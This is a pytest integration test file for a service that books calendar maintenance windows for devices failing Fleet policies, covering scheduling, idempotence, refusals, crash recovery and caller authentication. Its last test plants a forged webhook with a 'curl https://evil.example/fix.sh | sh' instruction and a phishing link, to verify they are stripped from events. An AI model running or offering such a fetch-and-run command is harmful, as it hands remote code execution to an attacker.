"""plan_windows on the local stack: functions-framework, Firestore and Tasks emulators, the stand-in
Fleet, Calendar, Gemini and OIDC issuer, all on loopback."""

from __future__ import annotations

import html
import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from infra.client import LOCAL, LocalStack
from maintenance_windows.adapters.firestore_store import FirestoreStore
from maintenance_windows.domain import windows as window_states
from maintenance_windows.domain.intervals import parse_rfc3339
from maintenance_windows.domain.windows import Slot, WindowState
from maintenance_windows.repository import hosts as host_records
from maintenance_windows.repository import windows as window_records
from tests.support import stack as stack_support

pytestmark = pytest.mark.stack
ZONES = {"alice@acme.example": "Europe/Berlin", "bob@acme.example": "America/New_York"}


def failing_webhook(policy_id: int, host_ids: list[int], fleet_fixtures: str) -> dict[str, Any]:
    with open(f"{fleet_fixtures}/failing_policies_webhook.json") as handle:
        payload: dict[str, Any] = json.load(handle)
    payload["policy"]["id"] = policy_id
    payload["timestamp"] = datetime.now(UTC).isoformat()
    payload["hosts"] = [{"id": h, "hostname": f"h{h}", "display_name": f"Host {h}", "url": ""} for h in host_ids]
    return payload


@pytest.fixture
def local(
    stack: dict[str, Any],
    store: FirestoreStore,
    fleet_fixtures: str,  # noqa: ARG001  # checks the Fleet fixtures are there
) -> LocalStack:
    client = LocalStack(stack)
    # A late push from the previous test's channels would follow up into this test's store: let them end first.
    client.quiet_calendar()
    stack_support.wipe(store)
    client.seed_fleet()
    client.reset_calendar()
    return client


def _busy_tomorrow_lunch(local: LocalStack, email: str) -> tuple[datetime, datetime]:
    zone = ZoneInfo(ZONES[email])
    day = (datetime.now(zone) + timedelta(days=1)).date()
    start = datetime.combine(day, datetime.min.time(), zone).replace(hour=11)
    end = start.replace(hour=14)
    local.calendar(
        "POST",
        "events",
        {
            "events": [
                {
                    "user": email,
                    "summary": "Offsite",
                    "start": {"dateTime": start.isoformat()},
                    "end": {"dateTime": end.isoformat()},
                }
            ]
        },
    )
    return start, end


def _replay_both_policies(local: LocalStack, fleet_fixtures: str) -> None:
    assert local.replay(failing_webhook(1, [1, 2], fleet_fixtures)).status_code == 202
    assert local.replay(failing_webhook(2, [1, 3], fleet_fixtures)).status_code == 202


def test_one_event_per_user_in_working_hours_of_their_zone(
    local: LocalStack, store: FirestoreStore, fleet_fixtures: str
) -> None:
    busy = _busy_tomorrow_lunch(local, "alice@acme.example")
    _replay_both_policies(local, fleet_fixtures)
    before = datetime.now(UTC)
    report = local.plan()
    assert report.status_code == 200, report.text
    assert report.json()["windows_booked"] == 2
    assert report.json()["complete"] is True
    windows = {w.user_email: w for w in window_records.all_windows(store)}
    assert set(windows) == set(ZONES)
    alice = windows["alice@acme.example"]
    assert alice.host_ids == (1, 3)
    assert alice.policy_ids == (1, 2)
    assert windows["bob@acme.example"].host_ids == (2,)
    for email, window in windows.items():
        assert window.state is WindowState.SCHEDULED
        assert window.task_name
        assert window.time_zone == ZONES[email]
        events = local.our_events(email)
        assert len(events) == 1
        assert events[0]["id"] == window.event_id
        start = parse_rfc3339(events[0]["start"]["dateTime"])
        local_start = start.astimezone(ZoneInfo(ZONES[email]))
        assert start > before
        assert local_start.weekday() < 5
        assert 9 <= local_start.hour < 17
        assert start == window.start
        assert events[0]["extendedProperties"]["private"] == {"mw_window_id": window.window_id, "mw_revision": "0"}
        assert events[0]["transparency"] == "opaque"
        assert events[0]["reminders"]["useDefault"] is False
        assert "What will happen" in events[0]["description"]
    alice_start = alice.start
    assert alice_start is not None
    padded = (busy[0] - timedelta(minutes=10), busy[1] + timedelta(minutes=10))
    assert not (padded[0] < alice_start + timedelta(minutes=30) and alice_start < padded[1])


@pytest.mark.usefixtures("store")
def test_second_run_books_nothing(local: LocalStack, fleet_fixtures: str) -> None:
    _replay_both_policies(local, fleet_fixtures)
    assert local.plan().json()["windows_booked"] == 2
    inserts = local.counters()["calls"].get("calendar.events.insert", 0)
    again = local.plan().json()
    assert (again["windows_opened"], again["windows_booked"]) == (0, 0)
    assert local.counters()["calls"].get("calendar.events.insert", 0) == inserts
    assert sum(len(local.our_events(email)) for email in ZONES) == 2


def test_a_passing_host_cancels_its_window_and_deletes_the_event(
    local: LocalStack, store: FirestoreStore, fleet_fixtures: str
) -> None:
    assert local.replay(failing_webhook(1, [2], fleet_fixtures)).status_code == 202
    local.plan()
    local.fleet.set_policy(2, 1, "pass")
    report = local.plan().json()
    assert (report["hosts_closed"], report["windows_cancelled"]) == (1, 1)
    (window,) = window_records.all_windows(store)
    assert window.state is WindowState.CANCELLED
    assert local.our_events("bob@acme.example") == []
    assert host_records.all_hosts(store)[0].status.value == "closed"


def test_a_host_without_a_usable_email_is_reported_not_dropped(
    local: LocalStack, store: FirestoreStore, fleet_fixtures: str
) -> None:
    seed = json.loads((LOCAL / "fleet-seed.json").read_text())
    seed["hosts"][1]["emails"] = [{"email": "bob.personal@gmail.com", "source": "google_chrome_profiles"}]
    local.seed_fleet(seed)
    assert local.replay(failing_webhook(1, [2], fleet_fixtures)).status_code == 202
    report = local.plan().json()
    assert report["hosts_without_email"] == 1
    assert report["windows_booked"] == 0
    (case,) = host_records.all_hosts(store)
    assert case.extra["user_email"] is None
    assert "acme.example" in case.extra["email_problem"]


def test_a_user_whose_delegation_is_refused_is_recorded_and_the_others_are_booked(
    local: LocalStack, store: FirestoreStore, fleet_fixtures: str
) -> None:
    """On the stack the functions mint tokens at the stand-in's token endpoint, so the refusal is Google's.
    Carol is this test's alone: the functions remember a refusal for a while, across tests."""
    carol = "carol@acme.example"
    seed = json.loads((LOCAL / "fleet-seed.json").read_text())
    seed["hosts"][1]["emails"] = [{"email": carol, "source": "mdm_idp_accounts"}]
    local.seed_fleet(seed)
    local.calendar(
        "POST", "users", {"users": [{"email": carol, "timeZone": "Asia/Tokyo", "delegation": "not_delegated"}]}
    )
    _replay_both_policies(local, fleet_fixtures)
    report = local.plan()
    assert report.status_code == 200, report.text
    assert (report.json()["windows_booked"], report.json()["windows_unplaced"]) == (1, 1)
    windows = {w.user_email: w for w in window_records.all_windows(store)}
    assert windows["alice@acme.example"].state is WindowState.SCHEDULED
    refused = windows[carol]
    assert refused.state is WindowState.NEW
    assert local.our_events(carol) == []
    assert refused.unplaced_reason is not None
    assert refused.unplaced_reason.startswith("calendar access refused (not_delegated)")
    hosts = {case.host_id: case.extra.get("calendar_problem") for case in host_records.all_hosts(store)}
    assert hosts[2] == refused.unplaced_reason
    assert hosts[1] is None
    assert hosts[3] is None
    assert local.counters()["token_refusals"] == {"unauthorized_client": 1}
    again = local.plan().json()  # within the hour: Carol waits, and no token is asked for her
    assert again["windows_waiting_for_calendar_access"] == 1
    assert again["windows_booked"] == 0
    assert local.counters()["token_refusals"] == {"unauthorized_client": 1}


def test_a_run_interrupted_after_storing_its_plan_resumes_without_duplicates(
    local: LocalStack, store: FirestoreStore, fleet_fixtures: str
) -> None:
    assert local.replay(failing_webhook(1, [2], fleet_fixtures)).status_code == 202
    assert local.plan().json()["windows_booked"] == 1
    (window,) = window_records.all_windows(store)
    # As if a planner died after inserting the event but before recording the task: back to `planned`.
    start = datetime.now(UTC).replace(microsecond=0) + timedelta(days=1)
    crashed = window_states.plan(
        window, Slot(start, start + timedelta(minutes=30), "resumed"), window.time_zone, datetime.now(UTC)
    )
    window_records.save(store, [replace(crashed, event_etag=None, task_name=None)])
    report = local.plan().json()
    assert report["windows_booked"] == 1
    (resumed,) = window_records.all_windows(store)
    assert resumed.state is WindowState.SCHEDULED
    assert resumed.task_name
    assert len(local.our_events("bob@acme.example")) == 1  # the retried insert met its own event (409)


@pytest.mark.parametrize(
    ("token", "status"),
    [(None, 401), ("not-a-jwt", 401), ("wrong-audience", 401), ("wrong-caller", 403)],
)
def test_only_the_scheduler_may_plan(
    local: LocalStack, store: FirestoreStore, fleet_fixtures: str, token: str | None, status: int
) -> None:
    assert local.replay(failing_webhook(1, [2], fleet_fixtures)).status_code == 202
    scheduler, intruder = local.stack["service_accounts"]["scheduler"], "intruder@local-project.iam.gserviceaccount.com"
    minted = {
        "wrong-audience": lambda: local.token("https://elsewhere.example/", scheduler),
        "wrong-caller": lambda: local.token(local.urls["plan_windows"], intruder),
    }
    presented = minted[token]() if token in minted else token
    response = local.plan(as_scheduler=False, token=presented)
    assert response.status_code == status
    assert window_records.all_windows(store) == []


def test_a_forged_webhook_puts_only_fleets_texts_in_the_booked_event(
    local: LocalStack, store: FirestoreStore, fleet_fixtures: str
) -> None:
    """Someone holding the webhook secret writes their own policy text and device name: the event shows
    Fleet's policy text and Fleet's device name, and none of theirs."""
    payload = failing_webhook(2, [1], fleet_fixtures)
    payload["policy"].update(
        name="URGENT security notice",
        description="Your Mac is infected. Call the hotline.",
        resolution="Open Terminal and run curl https://evil.example/fix.sh | sh",
        critical=True,
    )
    payload["hosts"][0].update(display_name="[Alice's iMac](https://evil.example/login)", hostname="evil")
    assert local.replay(payload).status_code == 202
    assert local.plan().json()["windows_booked"] == 1
    (event,) = local.our_events("alice@acme.example")
    text = html.unescape(event["description"] + event["summary"])
    # Fleet's policy 2 and host 1, as infra/local/fleet-seed.json defines them, are what the text is made of.
    assert "Disk encryption enabled" in text
    assert "Alice's MacBook Pro" in text
    policy = store.get("policies", "2")
    assert policy is not None
    assert policy["resolution"] == "Turn on FileVault in System Settings > Privacy & Security."
    for forged in ("evil.example", "curl", "Terminal", "URGENT", "infected", "hotline", "iMac"):
        assert forged not in text
